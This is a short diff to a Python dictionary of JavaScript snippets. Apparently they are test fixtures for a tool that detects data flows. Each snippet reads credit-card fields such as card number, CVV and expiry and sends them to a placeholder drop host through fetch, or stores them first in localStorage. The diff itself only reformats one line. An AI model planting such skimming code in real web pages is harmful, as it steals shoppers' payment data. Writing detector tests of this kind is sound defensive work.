@@ -27,7 +27,8 @@ FLOWS = {
                           f"send(encodeURIComponent(document.querySelector('#cvv').value));",
     "object member joined into a URL": "var o = {n: ''}; "
                                        "o.n = document.querySelector('#cc_number').value;\n"
-                                       f"var a = []; a.push(o.n); fetch('{DROP}?d=' + a.join('_'));",
+                                       "var a = []; a.push(o.n);\n"
+                                       f"fetch('{DROP}?d=' + a.join('_'));",
     "storage": f"localStorage.setItem('k', document.querySelector('#cc-exp').value);\n"
                f"fetch('{DROP}', {{method: 'POST', body: localStorage.getItem('k')}});",
     "class field": f"class C {{ constructor(u) {{ this.u = u; }}\n"
